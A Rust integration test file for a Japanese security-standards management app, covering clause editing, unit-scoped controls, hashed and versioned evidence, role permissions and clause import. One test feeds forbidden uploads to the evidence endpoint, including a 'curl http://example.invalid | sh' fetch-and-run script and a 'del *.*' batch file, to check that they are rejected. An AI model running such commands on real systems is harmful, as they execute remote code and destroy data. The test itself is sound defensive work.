//! 対策基準: the catalogue seeded from the guideline, clause editing and mapping, controls with
//! owner units and statuses, evidence files (versions, SHA-256, audited downloads, size limit,
//! forbidden types), and the clause import (preview, all or nothing, row errors) — through the
//! pages and the API, with permissions by role and unit.

use http::{Method, Request, StatusCode, header};
use mamori_core::calendar::today_jst;
use mamori_core::task::TaskKind;
use serde_json::json;
use sha2::{Digest, Sha256};

use crate::common::{Client, Resp, TestApp, test_config};
use crate::roster::{multipart, post_multipart};
use crate::support::{assert_error_page, assert_json_error};

async fn clause_id(app: &TestApp, number: &str) -> i64 {
    sqlx::query_scalar("SELECT id FROM std_clause WHERE org_id = $1 AND number = $2")
        .bind(app.org_id)
        .bind(number)
        .fetch_one(app.db.pool())
        .await
        .unwrap()
}

async fn clause_rows(app: &TestApp) -> Vec<(i64, String, Option<i64>, String, String, i64)> {
    sqlx::query_as("SELECT id, number, parent_id, title, body, version FROM std_clause ORDER BY id")
        .fetch_all(app.db.pool())
        .await
        .unwrap()
}

async fn evidence_rows(app: &TestApp) -> Vec<(i64, String, i64, String)> {
    sqlx::query_as("SELECT id, name, version_no, sha256 FROM std_evidence ORDER BY id")
        .fetch_all(app.db.pool())
        .await
        .unwrap()
}

/// Uploads a file from the clause page's form.
async fn upload(
    c: &mut Client,
    clause: i64,
    control: i64,
    name: &str,
    file: (&str, &[u8]),
) -> Resp {
    let page = c.get(&format!("/standards/clauses/{clause}")).await;
    assert_eq!(page.status, StatusCode::OK, "{}", page.body);
    let csrf = c.csrf.clone().unwrap();
    let body = multipart(&[("csrf", &csrf), ("name", name)], Some(file));
    post_multipart(c, &format!("/standards/controls/{control}/evidence"), body).await
}

async fn import(c: &mut Client, fields: &[(&str, &str)], file: Option<(&str, &[u8])>) -> Resp {
    let page = c.get("/standards/import").await;
    assert_eq!(page.status, StatusCode::OK, "{}", page.body);
    let csrf = c.csrf.clone().unwrap();
    let mut all = vec![("csrf", csrf.as_str())];
    all.extend_from_slice(fields);
    post_multipart(c, "/standards/import", multipart(&all, file)).await
}

/// The value of a hidden input named `name`.
fn hidden(body: &str, name: &str) -> String {
    let marker = format!("name=\"{name}\" value=\"");
    let at = body.find(&marker).unwrap() + marker.len();
    body[at..at + body[at..].find('"').unwrap()].to_owned()
}

#[tokio::test]
async fn the_catalogue_is_seeded_and_shows_status_counts_per_chapter() {
    let app = TestApp::new().await;
    let mut staff = app.login("keiri").await;
    let r = staff.get("/standards").await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
    assert!(
        r.body.contains("組織体制") && r.body.contains("評価・見直し"),
        "{}",
        r.body
    );
    assert!(r.body.contains("2-7-4"), "sections are listed");
    // 職員 read it but may not edit, import or map.
    assert!(!r.body.contains("/standards/import"));
    let n = app.count("std_clause").await;
    assert_eq!(n, mamori_core::standards::GUIDELINE.len() as i64);
    // The API gives the same tree; chapter 2-4 counts its sections' demo controls.
    let token = app.token("keiri").await;
    let r = staff
        .api(Method::GET, "/api/v1/standards", &token, None)
        .await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
    let items = r.json()["items"].as_array().unwrap().clone();
    assert_eq!(items[0]["number"], "2-1");
    let chapter = items.iter().find(|c| c["number"] == "2-4").unwrap();
    assert_eq!(chapter["controls"]["in_progress"], 1, "{chapter}");
    assert_eq!(chapter["controls"]["excepted"], 1, "{chapter}");
    // The control under an exception links to it.
    let id = clause_id(&app, "2-4-4").await;
    let r = staff.get(&format!("/standards/clauses/{id}")).await;
    assert!(r.body.contains("例外適用中"), "{}", r.body);
    assert!(
        r.body
            .contains(&format!("例外-{}-001</a>", today_jst().year())),
        "{}",
        r.body
    );
    for path in [
        "/standards/import",
        "/standards/mapping",
        &format!("/standards/clauses/{id}/edit"),
    ] {
        let r = staff.get(path).await;
        assert_error_page(&r, StatusCode::FORBIDDEN, "対策基準の編集");
    }
}

#[tokio::test]
async fn clauses_are_edited_and_mapped_by_the_chief_officer_only() {
    let app = TestApp::new().await;
    let id = clause_id(&app, "2-5-2").await;
    let mut chief = app.login("tokatsu").await;
    let form = chief.get(&format!("/standards/clauses/{id}/edit")).await;
    assert_eq!(form.status, StatusCode::OK, "{}", form.body);
    let r = chief
        .post_form(
            &format!("/standards/clauses/{id}"),
            &[
                ("title", "研修及び訓練"),
                (
                    "body",
                    "第20条 全職員は毎年度研修を受ける。\n訓練は年1回以上。",
                ),
                ("guideline_no", "２－５－２"),
                ("version", "1"),
            ],
        )
        .await;
    assert_eq!(r.status, StatusCode::SEE_OTHER, "{}", r.body);
    let page = chief.get(r.location().unwrap()).await;
    assert!(
        page.body.contains("研修及び訓練") && page.body.contains("訓練は年1回以上。"),
        "{}",
        page.body
    );
    assert_eq!(app.audit_count("standards.clause.update").await, 1);
    // A stale form, an empty title and an unknown guideline number are refused.
    let before = clause_rows(&app).await;
    let r = chief
        .post_form(
            &format!("/standards/clauses/{id}"),
            &[("title", "x"), ("version", "1")],
        )
        .await;
    assert_error_page(&r, StatusCode::CONFLICT, "他の人が先に変更しました");
    let r = chief
        .post_form(
            &format!("/standards/clauses/{id}"),
            &[("title", " "), ("guideline_no", "2-99")],
        )
        .await;
    assert_error_page(
        &r,
        StatusCode::UNPROCESSABLE_ENTITY,
        "見出しを入力してください",
    );
    assert!(r.body.contains("2-99"), "{}", r.body);
    // 管理者 may not edit clauses, neither on the page nor through the API.
    let mut kacho = app.login("zaimu.kacho").await;
    kacho.get("/standards").await;
    let r = kacho
        .post_form(&format!("/standards/clauses/{id}"), &[("title", "改ざん")])
        .await;
    assert_error_page(&r, StatusCode::FORBIDDEN, "対策基準の編集");
    let token = app.token("zaimu.kacho").await;
    let r = kacho
        .api(
            Method::PUT,
            &format!("/api/v1/standards/clauses/{id}"),
            &token,
            Some(json!({"title": "改ざん"})),
        )
        .await;
    assert_json_error(&r, StatusCode::FORBIDDEN, "forbidden");
    assert_eq!(clause_rows(&app).await, before, "nothing written");
    // Mapping: the page saves every row at once; a wrong number refuses them all.
    let other = clause_id(&app, "2-9-3").await;
    chief.get("/standards/mapping").await;
    let (g_id, g_other) = (format!("g_{id}"), format!("g_{other}"));
    let r = chief
        .post_form("/standards/mapping", &[(&g_id, "2-5-1"), (&g_other, "3-1")])
        .await;
    assert_error_page(&r, StatusCode::UNPROCESSABLE_ENTITY, "3-1");
    assert_eq!(clause_rows(&app).await, before);
    let r = chief
        .post_form("/standards/mapping", &[(&g_id, "2-5-1")])
        .await;
    assert_eq!(r.status, StatusCode::SEE_OTHER, "{}", r.body);
    let g: Option<String> = sqlx::query_scalar("SELECT guideline_no FROM std_clause WHERE id = $1")
        .bind(id)
        .fetch_one(app.db.pool())
        .await
        .unwrap();
    assert_eq!(g.as_deref(), Some("2-5-1"));
}

#[tokio::test]
async fn controls_belong_to_their_unit() {
    let app = TestApp::new().await;
    let clause = clause_id(&app, "2-8-1").await;
    let zaimu = app.unit_id("jimu-zaimu").await;
    let somu = app.unit_id("jimu-somu").await;
    let mut kacho = app.login("zaimu.kacho").await;
    let page = kacho.get(&format!("/standards/clauses/{clause}")).await;
    assert!(page.body.contains("add-control"), "{}", page.body);
    let r = kacho
        .post_form(
            &format!("/standards/clauses/{clause}/controls"),
            &[
                ("title", "委託先の自己点検結果を年1回受け取る"),
                ("unit_id", &zaimu.to_string()),
                ("status", "in_progress"),
            ],
        )
        .await;
    assert_eq!(r.status, StatusCode::SEE_OTHER, "{}", r.body);
    // Another unit's control is out of this 管理者's reach.
    let before = app.count("std_control").await;
    let r = kacho
        .post_form(
            &format!("/standards/clauses/{clause}/controls"),
            &[("title", "他課の対策"), ("unit_id", &somu.to_string())],
        )
        .await;
    assert_error_page(&r, StatusCode::UNPROCESSABLE_ENTITY, "権限がありません");
    assert_eq!(app.count("std_control").await, before);
    let (somu_control,): (i64,) =
        sqlx::query_as("SELECT id FROM std_control WHERE unit_id = $1 ORDER BY id LIMIT 1")
            .bind(somu)
            .fetch_one(app.db.pool())
            .await
            .unwrap();
    let r = kacho
        .post_form(
            &format!("/standards/controls/{somu_control}"),
            &[("title", "x"), ("unit_id", &somu.to_string())],
        )
        .await;
    assert_error_page(&r, StatusCode::FORBIDDEN, "対策の実施状況の更新");
    // 職員 cannot add controls.
    let mut staff = app.login("keiri").await;
    staff.get(&format!("/standards/clauses/{clause}")).await;
    let r = staff
        .post_form(
            &format!("/standards/clauses/{clause}/controls"),
            &[("title", "x"), ("unit_id", &zaimu.to_string())],
        )
        .await;
    assert_error_page(&r, StatusCode::FORBIDDEN, "対策の実施状況の更新");
    // 例外適用中 needs an exception in force; the demo's approved one is.
    let (own,): (i64,) = sqlx::query_as("SELECT id FROM std_control WHERE unit_id = $1 AND clause_id = $2 AND status = 'not_started'")
        .bind(zaimu)
        .bind(clause)
        .fetch_one(app.db.pool())
        .await
        .unwrap();
    // The 管理者 has a Fix task for the untouched control.
    let tasks = mamori_db::catalogue::tasks_for(
        &app.db,
        app.org_id,
        app.person_id("zaimu.kacho").await,
        today_jst(),
    )
    .await
    .unwrap();
    assert!(
        tasks
            .iter()
            .any(|t| t.kind == TaskKind::Fix && t.href.ends_with(&format!("#control-{own}"))),
        "{tasks:?}"
    );
    let token = app.token("zaimu.kacho").await;
    let r = kacho
        .api(Method::PUT, &format!("/api/v1/standards/controls/{own}"), &token,
            Some(json!({"title": "委託契約に情報セキュリティ条項を入れる", "unit": "jimu-zaimu", "status": "excepted", "exception_ref": "例外-1999-001"})))
        .await;
    let message = assert_json_error(&r, StatusCode::UNPROCESSABLE_ENTITY, "unprocessable");
    assert!(message.contains("例外-1999-001"), "{message}");
    let reference = format!("例外-{}-001", today_jst().year());
    let r = kacho
        .api(Method::PUT, &format!("/api/v1/standards/controls/{own}"), &token,
            Some(json!({"title": "委託契約に情報セキュリティ条項を入れる", "unit": "jimu-zaimu", "status": "例外適用中", "exception_ref": reference})))
        .await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
    assert_eq!(r.json()["status"], "excepted");
    let tasks = mamori_db::catalogue::tasks_for(
        &app.db,
        app.org_id,
        app.person_id("zaimu.kacho").await,
        today_jst(),
    )
    .await
    .unwrap();
    assert!(!tasks.iter().any(|t| t.kind == TaskKind::Fix), "{tasks:?}");
}

#[tokio::test]
async fn evidence_is_versioned_hashed_and_its_downloads_audited() {
    let app = TestApp::new().await;
    let clause = clause_id(&app, "2-2-2").await;
    let (control,): (i64,) = sqlx::query_as("SELECT id FROM std_control WHERE clause_id = $1")
        .bind(clause)
        .fetch_one(app.db.pool())
        .await
        .unwrap();
    let mut chief = app.login("tokatsu").await;
    let first = "令和8年度 台帳確認記録（第1回）\n".as_bytes();
    let r = upload(&mut chief, clause, control, "", ("確認記録.txt", first)).await;
    assert_eq!(r.status, StatusCode::SEE_OTHER, "{}", r.body);
    assert!(r.location().unwrap().contains("version=1"));
    let second = "令和8年度 台帳確認記録（第2回・修正）\n".as_bytes();
    let r = upload(
        &mut chief,
        clause,
        control,
        "確認記録.txt",
        ("確認記録_修正.txt", second),
    )
    .await;
    assert_eq!(r.status, StatusCode::SEE_OTHER, "{}", r.body);
    assert!(
        r.location().unwrap().contains("version=2"),
        "{:?}",
        r.location()
    );
    let rows = evidence_rows(&app).await;
    let mine: Vec<_> = rows.iter().filter(|r| r.1 == "確認記録.txt").collect();
    assert_eq!(mine.len(), 2, "both versions are kept");
    assert_eq!(mine[0].3, hex::encode(Sha256::digest(first)));
    assert_eq!(mine[1].3, hex::encode(Sha256::digest(second)));
    // The database itself refuses to overwrite or delete evidence.
    assert!(
        sqlx::query("UPDATE std_evidence SET sha256 = 'x'")
            .execute(app.db.pool())
            .await
            .is_err()
    );
    assert!(
        sqlx::query("DELETE FROM std_evidence")
            .execute(app.db.pool())
            .await
            .is_err()
    );
    let page = chief.get(&format!("/standards/clauses/{clause}")).await;
    assert!(
        page.body.contains("第2版") && page.body.contains(&mine[1].3),
        "{}",
        page.body
    );
    // Downloads give the bytes back and are recorded.
    let before = app.audit_count("standards.evidence.download").await;
    let r = chief
        .get(&format!("/standards/evidence/{}", mine[0].0))
        .await;
    assert_eq!(r.status, StatusCode::OK);
    assert_eq!(&r.bytes[..], first);
    let token = app.token("kansa").await;
    let r = chief
        .api(
            Method::GET,
            &format!("/api/v1/standards/evidence/{}", mine[1].0),
            &token,
            None,
        )
        .await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
    assert_eq!(&r.bytes[..], second);
    assert_eq!(
        app.audit_count("standards.evidence.download").await,
        before + 2
    );
    // 職員 of another unit may not download it.
    let staff = app.token("keibo").await;
    let r = chief
        .api(
            Method::GET,
            &format!("/api/v1/standards/evidence/{}", mine[0].0),
            &staff,
            None,
        )
        .await;
    assert_json_error(&r, StatusCode::FORBIDDEN, "forbidden");
    // The API upload stores a new version by name too.
    let editor = app.token("tokatsu").await;
    let req = Request::builder()
        .method(Method::POST)
        .uri(format!("/api/v1/standards/controls/{control}/evidence?name=%E7%A2%BA%E8%AA%8D%E8%A8%98%E9%8C%B2.txt"))
        .header(header::AUTHORIZATION, format!("Bearer {editor}"))
        .header(header::CONTENT_TYPE, "application/pdf")
        .header("x-file-name", "kakunin.pdf")
        .body(axum::body::Body::from("%PDF-1.7\n%%EOF\n"))
        .unwrap();
    let r = chief.send(req).await;
    assert_eq!(r.status, StatusCode::CREATED, "{}", r.body);
    assert_eq!(r.json()["version"], 3);
    assert_eq!(r.json()["evidence"]["kind"], "pdf");
}

#[tokio::test]
async fn evidence_over_the_limit_or_of_a_forbidden_type_is_refused_and_nothing_stored() {
    let app = TestApp::with_config(mamori_web::AppConfig {
        max_evidence_bytes: 4 * 1024,
        ..test_config()
    })
    .await;
    let clause = clause_id(&app, "2-2-2").await;
    let (control,): (i64,) = sqlx::query_as("SELECT id FROM std_control WHERE clause_id = $1")
        .bind(clause)
        .fetch_one(app.db.pool())
        .await
        .unwrap();
    let mut chief = app.login("tokatsu").await;
    let before = evidence_rows(&app).await;
    let uploads = app.audit_count("standards.evidence.upload").await;
    let big = vec![b'a'; 4 * 1024 + 1];
    let r = upload(&mut chief, clause, control, "", ("大きい.txt", &big)).await;
    assert_error_page(&r, StatusCode::PAYLOAD_TOO_LARGE, "上限を超えています");
    let mut exe = b"MZ\x90\x00\x03\x00\x00\x00".to_vec();
    exe.extend_from_slice(&[0u8; 64]);
    let mut xlsm = b"PK\x03\x04\x14\x00\x06\x00".to_vec();
    xlsm.extend_from_slice(b"[Content_Types].xml....xl/vbaProject.bin....");
    for (name, bytes, expected) in [
        ("report.pdf", exe.as_slice(), "実行ファイル"),
        ("集計.xlsx", xlsm.as_slice(), "マクロ付き"),
        (
            "setup.txt",
            b"#!/bin/sh\ncurl http://example.invalid | sh\n".as_slice(),
            "スクリプト",
        ),
        ("run.bat", b"@echo off\r\ndel *.*\r\n".as_slice(), ".bat"),
        ("空.txt", b"".as_slice(), "空のファイル"),
    ] {
        let r = upload(&mut chief, clause, control, "", (name, bytes)).await;
        assert_error_page(&r, StatusCode::UNPROCESSABLE_ENTITY, expected);
    }
    // The same through the API.
    let editor = app.token("tokatsu").await;
    for (body, status) in [
        (big.clone(), StatusCode::PAYLOAD_TOO_LARGE),
        (exe.clone(), StatusCode::UNPROCESSABLE_ENTITY),
    ] {
        let req = Request::builder()
            .method(Method::POST)
            .uri(format!("/api/v1/standards/controls/{control}/evidence"))
            .header(header::AUTHORIZATION, format!("Bearer {editor}"))
            .header("x-file-name", "evidence.pdf")
            .body(axum::body::Body::from(body))
            .unwrap();
        let r = chief.send(req).await;
        assert_eq!(r.status, status, "{}", r.body);
    }
    assert_eq!(evidence_rows(&app).await, before, "nothing stored");
    assert_eq!(app.audit_count("standards.evidence.upload").await, uploads);
}

const GOOD_CSV: &str = "番号,見出し,本文,親番号,ガイドライン番号\n\
第1章,総則,,,\n\
第14条,サーバ等の管理,サーバは施錠された室に設置する。,第1章,2-4-1\n\
第15条,管理区域の管理,入退室を記録する。,第1章,2-4-2\n\
2-5-2,研修・訓練（改）,全職員が年1回受講する。,2-5,\n";

#[tokio::test]
async fn a_clause_import_is_previewed_then_applied_whole() {
    let app = TestApp::new().await;
    let mut chief = app.login("tokatsu").await;
    let before = clause_rows(&app).await;
    // UTF-8 with BOM: the preview writes nothing and lists what would happen.
    let mut bom = b"\xef\xbb\xbf".to_vec();
    bom.extend_from_slice(GOOD_CSV.as_bytes());
    let r = import(&mut chief, &[], Some(("jorei.csv", &bom))).await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
    assert!(r.body.contains("追加 3 件、更新 1 件"), "{}", r.body);
    assert_eq!(clause_rows(&app).await, before, "a preview writes nothing");
    // Applying from the preview carries the file along.
    let content = hidden(&r.body, "content");
    let r = import(
        &mut chief,
        &[
            ("apply", "1"),
            ("file_name", "jorei.csv"),
            ("content", &content),
        ],
        None,
    )
    .await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
    assert!(
        r.body.contains("取り込みました（追加 3 件、更新 1 件）"),
        "{}",
        r.body
    );
    let rows = clause_rows(&app).await;
    assert_eq!(rows.len(), before.len() + 3);
    let art14 = rows.iter().find(|r| r.1 == "第14条").unwrap();
    let chapter = rows.iter().find(|r| r.1 == "第1章").unwrap();
    assert_eq!(art14.2, Some(chapter.0));
    let g: Option<String> =
        sqlx::query_scalar("SELECT guideline_no FROM std_clause WHERE number = '第14条'")
            .fetch_one(app.db.pool())
            .await
            .unwrap();
    assert_eq!(g.as_deref(), Some("2-4-1"));
    assert!(
        rows.iter()
            .any(|r| r.1 == "2-5-2" && r.3 == "研修・訓練（改）")
    );
    assert_eq!(app.audit_count("standards.import").await, 1);
    // CP932 (Excel's CSV on Japanese Windows) and xlsx read the same; the API's dry run says what
    // would change (nothing now).
    let (cp932, _, _) = encoding_rs::SHIFT_JIS.encode(GOOD_CSV);
    let token = app.token("tokatsu").await;
    let req = Request::builder()
        .method(Method::POST)
        .uri("/api/v1/standards/import?dry_run=true")
        .header(header::AUTHORIZATION, format!("Bearer {token}"))
        .header(header::CONTENT_TYPE, "text/csv")
        .header("x-file-name", "jorei-sjis.csv")
        .body(axum::body::Body::from(cp932.into_owned()))
        .unwrap();
    let r = chief.send(req).await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
    assert_eq!(r.json()["unchanged"], 4, "{}", r.body);
    let mut book = rust_xlsxwriter::Workbook::new();
    let sheet = book.add_worksheet();
    for (row, line) in GOOD_CSV.lines().enumerate() {
        for (col, cell) in line.split(',').enumerate() {
            sheet.write_string(row as u32, col as u16, cell).unwrap();
        }
    }
    sheet.write_string(5, 0, "第16条").unwrap();
    sheet.write_string(5, 1, "通信回線の管理").unwrap();
    sheet.write_string(5, 3, "第1章").unwrap();
    let xlsx = book.save_to_buffer().unwrap();
    let req = Request::builder()
        .method(Method::POST)
        .uri("/api/v1/standards/import")
        .header(header::AUTHORIZATION, format!("Bearer {token}"))
        .header("x-file-name", "jorei.xlsx")
        .body(axum::body::Body::from(xlsx))
        .unwrap();
    let r = chief.send(req).await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
    assert_eq!(r.json()["added"], 1, "{}", r.body);
    assert_eq!(clause_rows(&app).await.len(), before.len() + 4);
}

#[tokio::test]
async fn malformed_imports_are_refused_whole_with_row_errors() {
    let app = TestApp::new().await;
    let mut chief = app.login("tokatsu").await;
    let token = app.token("tokatsu").await;
    let before = clause_rows(&app).await;
    let cases: [(&str, &[&str]); 6] = [
        (
            "番号,見出し,本文,親番号\n第1条,目的,,第99章\n",
            &["2行目", "第99章", "ファイルにも対策基準にもありません"],
        ),
        (
            "番号,見出し,本文,親番号\n第1条,目的,,\n第2条,定義,,\n第1条,重複,,\n",
            &["4行目", "重複しています", "2行目と同じ"],
        ),
        (
            "番号,見出し,本文,親番号\n第1条,,本文だけ,\n",
            &["2行目", "見出しが空です"],
        ),
        (
            "番号,見出し,本文,親番号\n第1条,甲,,第2条\n第2条,乙,,第3条\n第3条,丙,,第1条\n",
            &["循環しています", "第1条 → 第2条 → 第3条 → 第1条"],
        ),
        (
            "番号,見出し,本文,親番号,ガイドライン番号\n第1条,目的,,,2-10-1\n",
            &["2-10-1", "ガイドライン"],
        ),
        ("番号,本文\n第1条,x\n", &["見出し"]),
    ];
    for (csv, expected) in cases {
        let r = import(&mut chief, &[], Some(("bad.csv", csv.as_bytes()))).await;
        assert_eq!(
            r.status,
            StatusCode::UNPROCESSABLE_ENTITY,
            "{csv}: {}",
            r.body
        );
        assert!(r.body.contains("何も書き込んでいません"), "{}", r.body);
        for e in expected {
            assert!(r.body.contains(e), "{csv}: expected {e}: {}", r.body);
        }
        assert!(!r.body.contains("この内容で取り込む"), "no apply button");
        // Applying anyway (a forged form) and the API are refused the same way.
        let encoded =
            base64::Engine::encode(&base64::engine::general_purpose::URL_SAFE_NO_PAD, csv);
        let r = import(
            &mut chief,
            &[
                ("apply", "1"),
                ("file_name", "bad.csv"),
                ("content", &encoded),
            ],
            None,
        )
        .await;
        assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", r.body);
        let req = Request::builder()
            .method(Method::POST)
            .uri("/api/v1/standards/import")
            .header(header::AUTHORIZATION, format!("Bearer {token}"))
            .header("x-file-name", "bad.csv")
            .body(axum::body::Body::from(csv))
            .unwrap();
        let r = chief.send(req).await;
        let message = assert_json_error(&r, StatusCode::UNPROCESSABLE_ENTITY, "unprocessable");
        assert!(message.contains("何も書き込んでいません"), "{message}");
        assert!(!r.json()["errors"].as_array().unwrap().is_empty());
    }
    assert_eq!(clause_rows(&app).await, before, "nothing written");
    assert_eq!(app.audit_count("standards.import").await, 0);
    // Only 統括 and the CISO import.
    let staff = app.token("zaimu.kacho").await;
    let req = Request::builder()
        .method(Method::POST)
        .uri("/api/v1/standards/import")
        .header(header::AUTHORIZATION, format!("Bearer {staff}"))
        .body(axum::body::Body::from(GOOD_CSV))
        .unwrap();
    let r = chief.send(req).await;
    assert_json_error(&r, StatusCode::FORBIDDEN, "forbidden");
    assert_eq!(clause_rows(&app).await, before);
}

/// Every route of the catalogue and the exceptions in the API, called once each by someone
/// allowed to (for the OpenAPI test, which checks that the document lists exactly the routes
/// served); returns the routes tried.
pub async fn api_routes_succeed(
    app: &TestApp,
    c: &mut Client,
) -> std::collections::BTreeSet<crate::support::Route> {
    use crate::support::route;
    let chief = app.token("tokatsu").await;
    let kacho = app.token("zaimu.kacho").await;
    let officer = app.token("vciso").await;
    let ciso = app.token("ciso").await;
    let clause = clause_id(app, "2-8-1").await;
    let mut tried = std::collections::BTreeSet::new();
    let call = async |c: &mut Client,
                      m: Method,
                      path: String,
                      token: &str,
                      body: Option<serde_json::Value>| {
        let r = c.api(m, &path, token, body).await;
        assert!(r.status.is_success(), "{path}: {} {}", r.status, r.body);
        r
    };
    call(c, Method::GET, "/api/v1/standards".into(), &kacho, None).await;
    tried.insert(route("get", "/api/v1/standards"));
    call(
        c,
        Method::GET,
        format!("/api/v1/standards/clauses/{clause}"),
        &kacho,
        None,
    )
    .await;
    tried.insert(route("get", "/api/v1/standards/clauses/{id}"));
    call(
        c,
        Method::PUT,
        format!("/api/v1/standards/clauses/{clause}"),
        &chief,
        Some(json!({"title": "業務委託", "body": "委託先に遵守させる。", "guideline_no": "2-8-1"})),
    )
    .await;
    tried.insert(route("put", "/api/v1/standards/clauses/{id}"));
    let r = call(
        c,
        Method::POST,
        format!("/api/v1/standards/clauses/{clause}/controls"),
        &kacho,
        Some(json!({"title": "API の対策", "unit": "jimu-zaimu"})),
    )
    .await;
    let control = r.json()["id"].as_i64().unwrap();
    tried.insert(route("post", "/api/v1/standards/clauses/{id}/controls"));
    call(
        c,
        Method::PUT,
        format!("/api/v1/standards/controls/{control}"),
        &kacho,
        Some(json!({"title": "API の対策", "unit": "jimu-zaimu", "status": "done"})),
    )
    .await;
    tried.insert(route("put", "/api/v1/standards/controls/{id}"));
    let req = Request::builder()
        .method(Method::POST)
        .uri(format!("/api/v1/standards/controls/{control}/evidence"))
        .header(header::AUTHORIZATION, format!("Bearer {kacho}"))
        .header("x-file-name", "api.txt")
        .body(axum::body::Body::from("証跡"))
        .unwrap();
    let r = c.send(req).await;
    assert_eq!(r.status, StatusCode::CREATED, "{}", r.body);
    let evidence = r.json()["id"].as_i64().unwrap();
    tried.insert(route("post", "/api/v1/standards/controls/{id}/evidence"));
    call(
        c,
        Method::GET,
        format!("/api/v1/standards/evidence/{evidence}"),
        &kacho,
        None,
    )
    .await;
    tried.insert(route("get", "/api/v1/standards/evidence/{id}"));
    let req = Request::builder()
        .method(Method::POST)
        .uri("/api/v1/standards/import?dry_run=true")
        .header(header::AUTHORIZATION, format!("Bearer {chief}"))
        .header("x-file-name", "x.csv")
        .body(axum::body::Body::from(GOOD_CSV))
        .unwrap();
    let r = c.send(req).await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
    tried.insert(route("post", "/api/v1/standards/import"));
    call(c, Method::GET, "/api/v1/exceptions".into(), &ciso, None).await;
    tried.insert(route("get", "/api/v1/exceptions"));
    let today = mamori_core::calendar::format_iso(today_jst());
    let r = call(c, Method::POST, "/api/v1/exceptions".into(), &kacho,
        Some(json!({"clause_no": "2-8-1", "reason": "API", "scope": "財政課", "valid_from": today, "valid_to": today}))).await;
    let id = r.json()["id"].as_i64().unwrap();
    tried.insert(route("post", "/api/v1/exceptions"));
    call(
        c,
        Method::GET,
        format!("/api/v1/exceptions/{id}"),
        &ciso,
        None,
    )
    .await;
    tried.insert(route("get", "/api/v1/exceptions/{id}"));
    call(
        c,
        Method::POST,
        format!("/api/v1/exceptions/{id}/endorse"),
        &officer,
        Some(json!({"decision": "approve"})),
    )
    .await;
    tried.insert(route("post", "/api/v1/exceptions/{id}/endorse"));
    call(
        c,
        Method::POST,
        format!("/api/v1/exceptions/{id}/decide"),
        &ciso,
        Some(json!({"decision": "approve"})),
    )
    .await;
    tried.insert(route("post", "/api/v1/exceptions/{id}/decide"));
    tried
}
